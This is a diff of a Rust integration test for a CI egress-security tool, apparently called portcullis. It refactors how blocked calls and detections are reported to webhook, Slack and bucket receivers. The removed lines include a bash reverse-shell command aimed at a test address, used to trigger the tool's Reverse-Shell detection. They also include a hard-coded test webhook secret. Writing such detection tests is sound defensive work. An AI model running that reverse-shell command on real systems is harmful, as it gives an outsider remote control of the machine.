@@ -3,18 +3,15 @@
 
 use anyhow::{Context, Result, ensure};
 use portcullis_tests::gate::step;
-use portcullis_tests::patience::wait_for;
-use portcullis_tests::policy_server::{ADDRESS, PolicyServer, URL, for_server};
+use portcullis_tests::policy_server::{PolicyServer, URL, for_server};
+use portcullis_tests::receivers::{self, LAB, Receivers, WEBHOOK_HOST};
 use portcullis_tests::server::http::Response;
 use portcullis_tests::server::id_tokens::IdTokens;
-use portcullis_tests::server::object_store::ObjectStore;
 use portcullis_tests::world::MonitorOptions;
 use portcullis_tests::{Canary, Job, JobOutcome, JobResult, StepKind, World};
 use serde_json::{Value, json};
 use std::fs;
-use std::net::TcpListener;
 use std::path::Path;
-use std::thread;
 
 const POLICY: &str = "name: hello-build
 egress-policy: block
@@ -30,67 +27,18 @@ fn job(run_id: u64, tokens: &IdTokens, canary: &Canary) -> Result<Job> {
     Ok(for_server(job, run_id, tokens))
 }
 
-/// Makes an integration, and has the store tell it that this is a test.
-fn integrate(store: &PolicyServer, name: &str, target: &Value, selection: &Value) -> Result<()> {
-    let file = store.directory().join("integration.json");
-    let body = json!({ "name": name, "target": target, "selection": selection });
-    fs::write(&file, body.to_string())?;
-    store.command(&["integration", "create", &file.display().to_string()])?;
-    let tested = store.command(&["integration", "test", name])?;
-    ensure!(tested.contains("works"), "{tested}");
-    Ok(())
-}
-
-/// What people's receivers got at a host, as JSON, in order; tests left out.
-fn told(world: &World, host: &str) -> Vec<Value> {
-    let requests = world.web().requests();
-    requests
-        .iter()
-        .filter(|request| request.host == host)
-        .filter_map(|request| serde_json::from_slice::<Value>(&request.body).ok())
-        .filter(|body| !body.to_string().contains("this is a test"))
-        .collect()
-}
-
-/// People are told of a blocked call and of a job that was killed; where a name leads is looked at each time.
+/// People are told of a blocked call and of a job that was killed.
 fn people_are_told(
     store: &PolicyServer,
     world: &World,
-    objects: &ObjectStore<'_>,
+    receivers: &Receivers<'_>,
     run: u64,
 ) -> Result<()> {
-    let lab = store.directory().join("lab.yaml");
-    fs::write(
-        &lab,
-        "name: lab\negress-policy: audit\nlockdown-mode: {enabled: true, detections: [Reverse-Shell]}\n",
-    )?;
-    store.command(&["policy", "apply", &lab.display().to_string()])?;
-    store.command(&["attach", "lab", "--repository", "octo/lab"])?;
-    let peer = world.internet().run(|| TcpListener::bind("0.0.0.0:4445"))??;
-    thread::spawn(move || drop(peer.incoming().collect::<Vec<_>>()));
-    let script = format!("(bash -i >& /dev/tcp/{ADDRESS}/4445 0>&1) & sleep 5; echo went-on");
-    let mut job = Job::script(&script).repository("octo/lab");
-    job.context.run_id = run;
-    let result = world.runner(0).run(&job)?;
-    ensure!(result.outcome == JobOutcome::Failure, "{}", result.log());
-
-    let hook = wait_for(&format!("the webhook; {}", store.log()), || {
-        told(world, "hooks.test").into_iter().find(|body| body["type"] == "detection.created")
-    })?;
-    let data = &hook["data"];
-    for (key, value) in
-        [("detection", "Reverse-Shell"), ("repository", "octo/lab"), ("cluster", "prod-linux")]
-    {
-        ensure!(data[key] == value, "{key}: {hook}");
-    }
-    ensure!(data["policy"]["name"] == "lab" && data["run_id"] == run, "{hook}");
-    ensure!(
-        data["is_lockdown"] == true && data["evidence"].to_string().contains(ADDRESS),
-        "{hook}"
-    );
-    ensure!(data["process"]["exe"].to_string().contains("bash"), "{hook}");
-    ensure!(data["link"] == format!("{URL}/runs/{run}-1"), "{hook}");
-    let calls = told(world, "hooks.test").into_iter().find(|body| body["type"] == "calls.blocked");
+    receivers::killed_job(world, store, run)?;
+    let told = receivers.detection(store)?;
+    receivers::check(&told, run)?;
+    let told_calls = receivers.told(WEBHOOK_HOST);
+    let calls = told_calls.iter().find(|body| body["type"] == "calls.blocked");
     let calls = calls.context("the main job's blocked call was not told")?;
     let listed = calls["data"]["calls"].as_array().context("no calls")?;
     let is_told = listed.iter().any(|call| {
@@ -100,18 +48,8 @@ fn people_are_told(
     });
     ensure!(is_told, "{calls}");
     ensure!(calls["data"]["repository"] == "octo/hello", "{calls}");
-
-    let message = wait_for("Slack", || told(world, "slack.test").pop())?;
-    let title = "Reverse-Shell in job build of octo/lab; the job was killed";
-    ensure!(message["blocks"][0]["text"]["text"] == title, "{message}");
-    let object = wait_for("the bucket", || {
-        let names = objects.names().ok()?;
-        let texts = names.iter().filter(|name| name.starts_with("pc/notifications/"));
-        texts.filter_map(|name| objects.text(name).ok()).find(|text| text.contains("octo/lab"))
-    })?;
-    ensure!(serde_json::from_str::<Value>(&object)?["data"] == *data, "{object}");
-    let detections = store.json(&["detections", "--repository", "octo/lab"])?;
-    ensure!(detections[0]["id"] == data["id"], "{detections}");
+    let detections = store.json(&["detections", "--repository", LAB])?;
+    ensure!(detections[0]["id"] == told.webhook["data"]["id"], "{detections}");
     Ok(())
 }
 
@@ -120,7 +58,7 @@ fn addresses_are_looked_at(store: &PolicyServer, world: &World) -> Result<()> {
     let dns = world.dns();
     let target = |host: &str| json!({ "kind": "slack", "url": format!("https://{host}/x") });
     dns.addresses_with_ttl("rebind.test", 0, &["198.51.100.61"])?;
-    integrate(store, "rebinding", &target("rebind.test"), &json!({ "detections": false }))?;
+    store.integrate("rebinding", &target("rebind.test"), &json!({ "detections": false }))?;
     dns.addresses_with_ttl("rebind.test", 0, &["127.0.0.1"])?;
     let error = store.command(&["integration", "test", "rebinding"]).err();
     let error =
@@ -132,7 +70,7 @@ fn addresses_are_looked_at(store: &PolicyServer, world: &World) -> Result<()> {
         ("private.special.test", "private-use"),
         ("mapped.special.test", "IPv4-mapped"),
     ] {
-        let error = integrate(store, host, &target(host), &json!({ "detections": false })).err();
+        let error = store.integrate(host, &target(host), &json!({ "detections": false })).err();
         let error = format!("{:#}", error.with_context(|| format!("{host} was asked"))?);
         ensure!(error.contains(usage) || error.contains("is not on the internet"), "{error}");
     }
@@ -148,10 +86,7 @@ fn first_line(result: &JobResult) -> Result<String> {
 #[test]
 fn the_main_job_runs_by_the_server_and_without_it() -> Result<()> {
     let world = World::builder().main_job().build()?;
-    let notifications = format!(
-        "[notifications]\nallowed-networks = [\"{ADDRESS}/32\"]\nallow-http = true\nretry-seconds = [1, 1]\n"
-    );
-    let mut store = PolicyServer::prepare(&world, &notifications)?;
+    let mut store = PolicyServer::prepare(&world, &receivers::configuration())?;
     store.start()?;
     let tokens = IdTokens::serve(world.web(), URL)?;
     let policy = store.directory().join("hello-build.yaml");
@@ -161,23 +96,10 @@ fn the_main_job_runs_by_the_server_and_without_it() -> Result<()> {
     let enrolled = store.enrol(&world)?;
     assert!(enrolled.contains("cluster prod-linux"), "{enrolled}");
     world.install_hooks()?;
-    for host in ["hooks.test", "slack.test"] {
-        world.dns().addresses(host, &["198.51.100.60"])?;
-        world.web().route(host, "/", |_| Response::ok("ok"));
-    }
     world.dns().addresses("rebind.test", &["198.51.100.61"])?;
     world.web().route("rebind.test", "/", |_| Response::ok("ok"));
-    let objects = ObjectStore::start(&world, ADDRESS, "evidence")?;
-    let key = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw";
-    let hook = json!({ "kind": "webhook", "url": "https://hooks.test/portcullis", "secret": key });
-    let slack = json!({ "kind": "slack", "url": "https://slack.test/services/T/B/x" });
-    let bucket = json!({
-        "kind": "s3", "bucket": "evidence", "region": "us-east-1", "endpoint": objects.url(), "prefix": "pc",
-        "access_key_id": "store", "secret_access_key": "key",
-    });
-    integrate(&store, "hook", &hook, &json!({ "blocked_calls": true }))?;
-    integrate(&store, "slack", &slack, &json!({ "lockdown_only": true }))?;
-    integrate(&store, "bucket", &bucket, &json!({}))?;
+    let receivers = Receivers::start(&world)?;
+    receivers.integrate(&store)?;
     addresses_are_looked_at(&store, &world)?;
     let mut monitor = world.monitor(MonitorOptions::default())?;
     let canary = Canary::generate()?;
@@ -223,7 +145,7 @@ fn the_main_job_runs_by_the_server_and_without_it() -> Result<()> {
     assert!(result.log().contains("contradicts the job's environment"), "{}", result.log());
     world.attacker().assert_untouched(&canary)?;
 
-    people_are_told(&store, &world, &objects, 21)?;
+    people_are_told(&store, &world, &receivers, 21)?;
     monitor.wait_until_idle()?;
 
     // Without the server, also over a restart of the monitor: the last known good policy, and nothing is lost.
